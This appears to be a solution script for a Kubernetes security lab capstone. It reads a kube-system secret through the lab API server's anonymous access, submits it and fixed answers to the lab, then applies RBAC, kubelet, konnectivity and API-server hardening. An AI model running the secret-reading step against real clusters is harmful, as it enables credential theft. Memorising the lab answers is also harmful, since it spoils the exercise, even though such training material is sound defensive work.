#!/usr/bin/env bash
# Capstone: three attacks, then eight hardenings.
set -euo pipefail

exploit() {
  local crown
  crown=$(minilab exec wire -- attacker http --plain --find '"word"' \
    https://198.51.100.1:6443/api/v1/namespaces/kube-system/secrets/crown |
    sed -n 's/.*"word":"\([^"]*\)".*/\1/p' | base64 -d)
  # Once repaired, nobody reads it: what was earned stays earned.
  [ -n "$crown" ] || return 0
  minilab lab answer crown "$crown"
  minilab attack apiserver-to-kubelet.ca > /dev/null
  minilab attack kubelet-access.authorization > /dev/null
}

explain() {
  minilab lab answer order "$(kubectl logs web --tail=1 | grep -o '[0-9][0-9]*')"
  minilab lab answer residual "root on node-1 reads the Secrets of node-1's pods"
  minilab lab answer contained apiserver-proxy
  minilab lab answer first "verify the kubelets' certificates"
}

harden() {
  minilab harden node-to-apiserver.restriction pod-to-apiserver components-to-apiserver.ports \
    apiserver-access.anonymous kubelet-access apiserver-to-kubelet apiserver-proxy.grants \
    apiserver-egress.tunnel apiserver-egress.agent-authentication
}

# Each step is explained in the exercise that it is from, 1 to 11.
by_hand() {
  rights
  kubelets
  tunnel
  control_plane
}

rights() {
  kubectl delete clusterrolebinding minilab:anonymous minilab:nodes minilab:phone-home --ignore-not-found
  kubectl -n minilab-system delete secret phone-home-token --ignore-not-found
  kubectl get clusterrole minilab:monitoring -o yaml |
    sed 's#^  - nodes/proxy$#  - nodes/metrics\n  - nodes/stats\n  - nodes/pods\n  - nodes/log\n  - nodes/healthz\n  - nodes/configz#' |
    kubectl replace -f -
  kubectl get clusterrole system:aggregate-to-edit -o yaml |
    sed -e '/- pods\/proxy$/d' -e '/- services\/proxy$/d' -e 's/autoupdate: "true"/autoupdate: "false"/' |
    kubectl replace -f -
}

# They ask who comes, and they ask for certificates; an approver compares the addresses.
kubelets() {
  local node name
  for node in node-1 node-2; do
    minilab exec "$node" -- sh -c '
      cd /var/lib/kubelet
      sed -i -e "/^  anonymous:/,/enabled:/ s/enabled: .*/enabled: false/" \
        -e "/^  webhook:/,/enabled:/ s/enabled: .*/enabled: true/" \
        -e "s/^  mode: AlwaysAllow/  mode: Webhook/" -e "s/^readOnlyPort: .*/readOnlyPort: 0/" config.yaml
      grep -q "^serverTLSBootstrap: true" config.yaml || echo "serverTLSBootstrap: true" >> config.yaml'
    minilab restart "kubelet@$node"
  done
  for node in node-1:192.0.2.11 node-2:192.0.2.12; do
    until requests | grep -q "=system:node:${node%:*}$"; do sleep 0.2; done
    for name in $(requests | sed -n "s/=system:node:${node%:*}$//p"); do
      kubectl get csr "$name" -o 'jsonpath={.spec.request}' | base64 -d |
        openssl req -noout -text |
        grep -q "IP Address:${node#*:}$" && kubectl certificate approve "$name"
    done
  done
}

requests() {
  kubectl get csr -o 'jsonpath={range .items[?(@.spec.signerName=="kubernetes.io/kubelet-serving")]}{.metadata.name}={.spec.username}{"\n"}{end}'
}

tunnel() {
  # What agents are and may do, and the agents themselves.
  kubectl apply -f - <<'YAML'
apiVersion: v1
kind: ServiceAccount
metadata: {name: konnectivity-agent, namespace: kube-system}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: konnectivity-server, namespace: kube-system}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: "system:konnectivity-server"}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: "system:auth-delegator"}
subjects: [{kind: ServiceAccount, name: konnectivity-server, namespace: kube-system}]
---
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: konnectivity-agent, namespace: kube-system}
spec:
  selector: {matchLabels: {k8s-app: konnectivity-agent}}
  template:
    metadata: {labels: {k8s-app: konnectivity-agent}}
    spec:
      hostNetwork: true
      priorityClassName: system-cluster-critical
      terminationGracePeriodSeconds: 1
      serviceAccountName: konnectivity-agent
      tolerations: [{operator: Exists}]
      containers:
      - name: konnectivity-agent
        image: registry.k8s.io/kas-network-proxy/proxy-agent:v0.34.0
        command: [/proxy-agent]
        args:
        - --ca-cert=/var/run/secrets/kubernetes.io/serviceaccount/ca.crt
        - --proxy-server-host=198.51.100.2
        - --proxy-server-port=8132
        - --admin-server-port=8133
        - --health-server-port=8134
        - --sync-interval=100ms
        - --sync-interval-cap=1s
        - --service-account-token-path=/var/run/secrets/tokens/konnectivity-agent-token
        - --agent-identifiers=ipv4=$(HOST_IP)
        env: [{name: HOST_IP, valueFrom: {fieldRef: {fieldPath: status.hostIP}}}]
        volumeMounts: [{mountPath: /var/run/secrets/tokens, name: konnectivity-agent-token}]
      volumes:
      - name: konnectivity-agent-token
        projected:
          sources:
          - serviceAccountToken: {path: konnectivity-agent-token, audience: "system:konnectivity-server"}
YAML
  # The server asks the API server whose token an agent shows; for that it needs one of its own.
  local token
  token=$(kubectl -n kube-system create token konnectivity-server --duration 24h)
  minilab exec control -- sh -c 'umask 077; cat > /etc/kubernetes/konnectivity-server.conf' <<YAML
apiVersion: v1
kind: Config
clusters: [{name: lab, cluster: {server: "https://198.51.100.1:6443", certificate-authority: /etc/kubernetes/pki/ca.crt}}]
users: [{name: server, user: {token: "$token"}}]
contexts: [{name: lab, context: {cluster: lab, user: server}}]
current-context: lab
YAML
  minilab exec control -- sh -c 'cat > /etc/kubernetes/egress-selector-configuration.yaml' <<'YAML'
apiVersion: apiserver.k8s.io/v1beta1
kind: EgressSelectorConfiguration
egressSelections:
- name: cluster
  connection:
    proxyProtocol: GRPC
    transport: {uds: {udsName: /etc/kubernetes/konnectivity-server/konnectivity-server.socket}}
YAML
  minilab exec control -- sh -c 'cat > /etc/kubernetes/manifests/konnectivity-server.yaml' <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: konnectivity-server, namespace: kube-system}
spec:
  hostNetwork: true
  containers:
  - name: konnectivity-server
    image: registry.k8s.io/kas-network-proxy/proxy-server:v0.34.0
    command:
    - /proxy-server
    - --mode=grpc
    - --uds-name=/etc/kubernetes/konnectivity-server/konnectivity-server.socket
    - --delete-existing-uds-file
    - --server-port=0
    - --agent-port=8132
    - --admin-port=8133
    - --health-port=8134
    - --cluster-cert=/etc/kubernetes/pki/apiserver.crt
    - --cluster-key=/etc/kubernetes/pki/apiserver.key
    - --agent-namespace=kube-system
    - --agent-service-account=konnectivity-agent
    - --kubeconfig=/etc/kubernetes/konnectivity-server.conf
    - --authentication-audience=system:konnectivity-server
    - --proxy-strategies=destHost,default
YAML
  kubectl -n kube-system rollout status daemonset konnectivity-agent --timeout=90s
}

# Last, what the new roads are for.
control_plane() {
  minilab exec control -- sh -c '
    cd /etc/kubernetes/manifests
    sed -i -e "/--authorization-always-allow-paths=/d" -e "s/--bind-address=.*/--bind-address=127.0.0.1/" \
      -e "s/--profiling=.*/--profiling=false/" kube-controller-manager.yaml kube-scheduler.yaml
    grep -q egress-selector kube-apiserver.yaml || sed -i -e "/--enable-admission-plugins=/d" \
      -e "/--client-ca-file=/a\    - --egress-selector-config-file=/etc/kubernetes/egress-selector-configuration.yaml" \
      -e "/--client-ca-file=/a\    - --enable-admission-plugins=NodeRestriction,DenyServiceExternalIPs" \
      -e "/--client-ca-file=/a\    - --kubelet-certificate-authority=/etc/kubernetes/pki/ca.crt" \
      -e "/--service-account-issuer=/i\    - --service-account-extend-token-expiration=false" kube-apiserver.yaml'
  until minilab exec control -- ps -C kube-apiserver -o args= | grep -q egress-selector &&
    kubectl logs web --tail=1 | grep -q order; do sleep 0.5; done
}

for part in "${@:-exploit explain harden}"; do for one in $part; do "$one"; done; done
